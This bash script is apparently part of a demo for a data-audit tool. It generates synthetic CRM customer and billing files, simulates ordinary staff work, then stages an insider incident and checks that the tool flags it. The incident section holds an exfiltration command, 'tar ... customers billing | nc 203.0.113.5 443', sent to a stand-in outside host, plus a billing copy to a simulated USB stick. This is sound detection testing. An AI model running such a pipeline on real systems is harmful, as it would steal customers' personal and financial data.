# Part 2 of the demo: a CRM server's customer files and three people in
# login sessions of their own.  Sourced by run.sh, which provides say, at,
# pass, fail and the collector.
# shellcheck shell=bash
#
# The CRM keeps its customer data set in files.  Three people work on it
# for two more simulated working weeks: alice (support) looks customers
# up, bob (DBA) runs exports, mallory (contractor) looks customers up too,
# until one Thursday evening she copies the whole CRM to a host outside
# and the billing files to a USB stick.

CRM_FILES=/srv/crm
CUST=$CRM_FILES/customers
BILL=$CRM_FILES/billing
SHARDS=300
# The two simulated weeks, and the day of the incident (the last).
DAYS=(2026-11-23 2026-11-24 2026-11-25 2026-11-26 2026-11-27
	2026-11-30 2026-12-01 2026-12-02 2026-12-03)
INCIDENT=2026-12-03
REVIEW=(--since "$INCIDENT" --until 2026-12-04)
REMOTE=203.0.113.5

# pick N: N customer files at random into PICKED (in this shell: a
# subshell would reseed RANDOM).
pick() {
	local i f
	PICKED=()
	for ((i = 0; i < $1; i++)); do
		printf -v f '%s/accounts-%03d.csv' "$CUST" $((RANDOM % SHARDS))
		PICKED+=("$f")
	done
}

# work USER TOOL FILE...: USER, in a login session of their own, runs TOOL
# on FILE...: it opens and reads each file whole.
work() {
	local user=$1 tool=$2
	shift 2
	printf '%s\n' "$@" >/tmp/work.list
	as_user "$user" "$tool" list /tmp/work.list >/dev/null
}

# files_setup: the data set and the CRM's client tools.
files_setup() {
	say "part 2: generating the customer files under $CRM_FILES"
	mkdir -p "$CUST" "$BILL"
	awk -v seed=42 -v files="$SHARDS" -v rows=60 -v cust="$CUST" -v bill="$BILL" '
	function pick(a, n) { return a[int(rand() * n) + 1] }
	BEGIN {
		srand(seed)
		nf = split("Maria Jonas Sofia Lukas Emma Noah Mia Elias Hannah Paul Lea Ben Anna Felix Lena Max Laura Tim Julia Leon Sarah David Nina Jan Clara Tom Eva Luca Ida Finn Marie Karl Greta Otto", F, " ")
		nl = split("Schneider Fischer Weber Meyer Wagner Becker Schulz Hoffmann Koch Richter Klein Wolf Neumann Schwarz Braun Zimmermann Hartmann Kruger Lange Werner Krause Lehmann Schmitt Walter Peters Vogel Jung Roth", L, " ")
		ns = split("Linden_Street Station_Road Mill_Lane Church_Street Park_Avenue High_Street Garden_Way Oak_Road Bridge_Street Market_Square Castle_Hill Harbour_Road", S, " ")
		nc = split("Berlin:10115:30 Hamburg:20095:40 Munich:80331:89 Cologne:50667:221 Frankfurt:60311:69 Stuttgart:70173:711 Leipzig:04109:341 Dresden:01067:351 Bremen:28195:421 Hanover:30159:511", C, " ")
		for (f = 0; f < files; f++) {
			out = sprintf("%s/accounts-%03d.csv", cust, f)
			print "account_id,first_name,last_name,phone,email,street,city,postcode,country,customer_since,balance_eur" > out
			for (r = 0; r < rows; r++) {
				id++
				fn = pick(F, nf); ln = pick(L, nl)
				st = pick(S, ns); gsub("_", " ", st)
				split(pick(C, nc), c, ":")
				printf "AC-%07d,%s,%s,+49 %s %07d,%s.%s@example.com,%d %s,%s,%s,DE,%d-%02d-%02d,%.2f\n",
					id, fn, ln, c[3], int(rand() * 10000000), tolower(fn), tolower(ln),
					1 + int(rand() * 120), st, c[1], c[2], 2012 + int(rand() * 14),
					1 + int(rand() * 12), 1 + int(rand() * 28), rand() * 5000 > out
			}
			close(out)
		}
		status[1] = "paid"; status[2] = "paid"; status[3] = "paid"; status[4] = "open"; status[5] = "overdue"
		for (m = 1; m <= 11; m++) {
			out = sprintf("%s/invoices-2026-%02d.csv", bill, m)
			print "invoice_id,account_id,issued,due,amount_eur,iban,status" > out
			for (r = 0; r < 1500; r++) {
				inv++
				printf "INV-2026-%06d,AC-%07d,2026-%02d-%02d,2026-%02d-%02d,%.2f,DE%02d %04d %04d %04d %04d %02d,%s\n",
					inv, 1 + int(rand() * id), m, 1 + int(rand() * 28), m % 12 + 1, 1 + int(rand() * 28),
					10 + rand() * 990, 10 + int(rand() * 90), int(rand() * 10000), int(rand() * 10000),
					int(rand() * 10000), int(rand() * 10000), int(rand() * 100), pick(status, 5) > out
			}
			close(out)
		}
		printf "%d customers in %d files, %d invoices in 11 files\n", id, files, inv
	}'
	chmod -R a+rX "$CRM_FILES"
	echo "$(du -sk "$CRM_FILES" | cut -f1) KiB in all; a customer file begins:"
	head -n 3 "$CUST/accounts-000.csv" | sed 's/^/    /'
	# The CRM's client tools.  Here both are copies of the test suite's
	# reader program: they open and read the files they are given, as a
	# real client would.
	mkdir -p /usr/local/bin
	cp /opt/daudit/helpers/reader /usr/local/bin/crm-lookup
	cp /opt/daudit/helpers/reader /usr/local/bin/crm-export
	chmod 0755 /usr/local/bin/crm-lookup /usr/local/bin/crm-export
	export PATH=/usr/local/bin:$PATH
}

files_policy() {
	cat <<POL
# The CRM's customer and billing files.
dataset crm-files {
	tree $CUST
}
dataset billing {
	tree $BILL
}
POL
}

files_allowlist() {
	echo "crm-files = /usr/local/bin/crm-lookup, /usr/local/bin/crm-export"
	echo "billing = /usr/local/bin/crm-export"
}

normal_day() {
	local day=$1 n first i f exported files=()
	at "$day" "09:$((10 + RANDOM % 20))"
	pick 3
	work alice crm-lookup "${PICKED[@]}"
	at "$day" "10:0$((RANDOM % 10))"
	n=$((40 + RANDOM % 21))
	first=$((RANDOM % (SHARDS - n)))
	printf -v f '%s/invoices-2026-%02d.csv' "$BILL" $((RANDOM % 11 + 1))
	files=("$f")
	for ((i = first; i < first + n; i++)); do
		printf -v f '%s/accounts-%03d.csv' "$CUST" "$i"
		files+=("$f")
	done
	work bob crm-export "${files[@]}"
	exported=${#files[@]}
	at "$day" "10:$((30 + RANDOM % 20))"
	pick 2
	work mallory crm-lookup "${PICKED[@]}"
	at "$day" "11:$((30 + RANDOM % 20))"
	pick 2
	work alice crm-lookup "${PICKED[@]}"
	at "$day" "14:$((20 + RANDOM % 20))"
	pick $((10 + RANDOM % 10))
	work bob crm-export "${PICKED[@]}"
	exported=$((exported + ${#PICKED[@]}))
	at "$day" "15:$((10 + RANDOM % 30))"
	pick 4
	work alice crm-lookup "${PICKED[@]}"
	at "$day" "16:$((10 + RANDOM % 30))"
	pick 1
	work mallory crm-lookup "${PICKED[@]}"
	printf '  %s %s: alice 3 lookup sessions (9 files), bob 2 exports (%d files), mallory 2 lookup sessions (3 files)\n' \
		"$(date -d "$day" +%a)" "$day" "$exported"
	settle_collector
}

files_run() {
	local day listener
	say "part 2: two more working weeks; alice, bob and mallory in login sessions of their own"
	for day in "${DAYS[@]}"; do
		normal_day "$day"
	done
	say "part 2: $(date -d "$INCIDENT" +%A) $INCIDENT, in the evening: mallory"
	# The outside host: a listener on $REMOTE:443.  Its stdin stays open (a
	# FIFO held by this shell): busybox nc stops at the end of its stdin.
	ip addr add "$REMOTE/32" dev lo
	mkfifo /run/remote.fifo
	nc -l -p 443 </run/remote.fifo >/root/received.tar 3>&- &
	listener=$!
	exec 7>/run/remote.fifo
	for _ in $(seq 50); do netstat -ltn | grep -q ':443 ' && break; sleep 0.1; done

	at "$INCIDENT" 21:40
	echo "  $(date +%H:%M) tar cf - -C $CRM_FILES customers billing | nc $REMOTE 443"
	# shellcheck disable=SC2016 # the inner shell expands them
	as_user mallory bash -c 'tar cf - -C "$1" customers billing | nc "$2" 443' _ "$CRM_FILES" "$REMOTE" >/dev/null
	wait "$listener"
	exec 7>&-
	echo "        the outside host received $(stat -c %s /root/received.tar) bytes"

	mkdir -p /media/usb0
	mount -t tmpfs -o size=64m,uid=1004,gid=1004 usb0 /media/usb0
	at "$INCIDENT" 21:52
	echo "  $(date +%H:%M) cp $BILL/*.csv /media/usb0/"
	as_user mallory cp "$BILL"/*.csv /media/usb0/
	echo "        the USB stick holds $(du -sk /media/usb0 | cut -f1) KiB"
	settle_collector
}

files_review() {
	local r first rules others egress inc shown=""
	say "daudit users --since ${DAYS[0]} --until 2026-12-04   (part 2's two weeks, per user)"
	daudit users --since "${DAYS[0]}" --until 2026-12-04

	say "daudit top --by bytes ${REVIEW[*]}   (the Thursday)"
	daudit top --by bytes "${REVIEW[@]}"

	say "daudit report --evidence 3 ${REVIEW[*]}   (the review of the Thursday)"
	daudit report --evidence 3 "${REVIEW[@]}"
	say "daudit incident list ${REVIEW[*]}   (the same findings as incidents)"
	daudit incident list "${REVIEW[@]}"
	inc=$(daudit incident list --format json "${REVIEW[@]}" |
		jq -r '[.[] | select(.person | startswith("mallory"))][0].incident // empty')
	if [ -n "$inc" ]; then
		say "daudit incident show $inc   (mallory's evening: what she read, with which command, what left)"
		shown=$(daudit incident show "$inc")
		echo "$shown"
	fi

	say "part 2: the demo's checks"
	r=$(daudit report --format json "${REVIEW[@]}")
	first=$(echo "$r" | jq -r '.users[0].user // "nobody"')
	rules=$(echo "$r" | jq -r '[.users[0].findings[]?.rule] | unique | join(" ")')
	others=$(echo "$r" | jq -r '[.users[1:][] | .user] | join(" ")')
	egress=$(daudit events --type egress --limit 0 --format json "${REVIEW[@]}" | jq length)
	if [ "$first" = mallory ]; then
		pass "mallory is ranked first ($rules)"
	else
		fail "the review ranks $first first, not mallory"
	fi
	if [[ " $rules " = *" read_then_egress "* ]]; then
		pass "her findings include read_then_egress (the data she read left the machine)"
	else
		fail "no read_then_egress finding for mallory; the sensor wrote $egress egress records that day"
	fi
	if [[ $shown == *"tar cf - -C $CRM_FILES customers billing (/bin/busybox"* &&
		$shown == *"nc $REMOTE 443 (/bin/busybox"* ]]; then
		pass "her incident's timeline shows the commands she typed: tar cf - ... | nc $REMOTE 443"
	else
		fail "mallory's incident (${inc:-none}) does not show the tar and nc command lines"
	fi
	if [ -z "$others" ]; then
		pass "alice and bob, working as usual, raise no finding"
	else
		fail "findings for $others too"
	fi
}
